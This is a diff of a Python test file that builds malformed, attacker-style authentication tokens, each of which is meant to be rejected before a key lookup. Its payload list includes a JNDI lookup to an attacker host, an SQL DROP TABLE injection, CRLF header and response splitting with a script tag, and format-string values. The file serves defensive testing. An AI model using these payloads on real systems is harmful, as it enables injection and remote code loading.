@@ -1,6 +1,6 @@
-"""What an attacker sends as a token, without any key: one list for every door. Each entry is made when it is asked for.
+"""Tokens that an attacker can send without a key, for tests of all entry points. Long ones are built on demand.
 
-Nothing here is worth a fetch: what is refused before a key is looked for, is.
+Each must be rejected before a key is fetched.
 """
 
 import json
@@ -18,15 +18,15 @@ def _token(header: Any, claims: Any, signature: bytes = bytes(256)) -> str:
     return f"{segment(header)}.{segment(claims)}.{b64(signature)}"
 
 
-def _over(text: str) -> str:
+def _with_claims(text: str) -> str:
     return _token(_HEADER, text.encode())
 
 
 def _nested(depth: int) -> str:
-    return _over(f'{{"iss":{"[" * depth}{"]" * depth}}}')
+    return _with_claims(f'{{"iss":{"[" * depth}{"]" * depth}}}')
 
 
-# As far as a header may carry them, and further.
+# Texts, also longer than a header can be.
 TEXTS: dict[str, Callable[[], str]] = {
     "nothing": str,
     "a word": lambda: "token",
@@ -41,10 +41,10 @@ TEXTS: dict[str, Callable[[], str]] = {
     "a lone surrogate": lambda: "\ud800",
     "a lone surrogate in a token": lambda: f"{make_token()}\udfff",
     "beyond ASCII": lambda: "\u00e9.\u00e9.\u00e9",
-    "beyond the first plane": lambda: "\U0001f600" * 100,
+    "beyond the Basic Multilingual Plane": lambda: "\U0001f600" * 100,
     "full width": lambda: make_token().replace("e", "\uff45"),
     "a header of its own": lambda: "x\r\nSet-Cookie: sessionid=attacker",
-    "an answer of its own": lambda: "x\r\n\r\n<script>alert(1)</script>",
+    "a response of its own": lambda: "x\r\n\r\n<script>alert(1)</script>",
     "another parameter": lambda: 'x", error="none", realm="',
     "a format": lambda: "%s%n{0}${jndi:ldap://attacker.invalid/}",
     "SQL": lambda: "'; DROP TABLE auth_user; --",
@@ -68,19 +68,19 @@ TEXTS: dict[str, Callable[[], str]] = {
     "an unhashable client": lambda: make_token(client_id=["1testclient23456789"]),
     "another client": lambda: make_token(client_id="attacker"),
     "no end": lambda: make_token(exp=None),
-    "an end beyond all calendars": lambda: make_token(exp=10**400),
-    "an end that is long past": lambda: make_token(exp=1),
-    "NaN": lambda: _over('{"exp":NaN}'),
-    "a member twice": lambda: _over('{"iss":1,"iss":2}'),
-    "5,000 digits": lambda: _over(f'{{"exp":{"1" * 5_000}}}'),
+    "an exp beyond the calendar": lambda: make_token(exp=10**400),
+    "an exp in the past": lambda: make_token(exp=1),
+    "NaN": lambda: _with_claims('{"exp":NaN}'),
+    "a member twice": lambda: _with_claims('{"iss":1,"iss":2}'),
+    "5,000 digits": lambda: _with_claims(f'{{"exp":{"1" * 5_000}}}'),
     "nested": lambda: _nested(5_000),
-    "no UTF-8": lambda: _token(_HEADER, b'{"iss":"\xff"}'),
+    "invalid UTF-8": lambda: _token(_HEADER, b'{"iss":"\xff"}'),
     "UTF-16": lambda: _token(_HEADER, '{"iss":1}'.encode("utf-16")),
-    "escaped surrogates": lambda: _over('{"iss":"\\ud800"}'),
+    "escaped surrogates": lambda: _with_claims('{"iss":"\\ud800"}'),
     "a list": lambda: _token([], []),
-    "NUL as the person": lambda: make_token(sub="a\0b"),
+    "NUL in the sub": lambda: make_token(sub="a\0b"),
 }
-# What only a program can hand in.
+# Values that are not strings: only a caller in Python can pass them.
 OTHERS: dict[str, Any] = {
     "None": None,
     "True": True,
